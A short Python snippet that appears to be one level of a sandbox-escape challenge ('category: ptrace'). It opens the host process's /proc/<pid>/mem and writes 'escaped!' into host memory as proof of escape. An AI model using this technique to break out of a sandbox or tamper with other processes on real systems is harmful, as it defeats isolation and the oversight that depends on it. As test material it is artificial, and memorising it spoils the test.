# level: boundary
# category: ptrace
# escape proof: the memory of the host changes

import os

fd = os.open(f"/proc/{CTX['hostpid']}/mem", os.O_RDWR)
os.pwrite(fd, b"escaped!", CTX["host_address"])
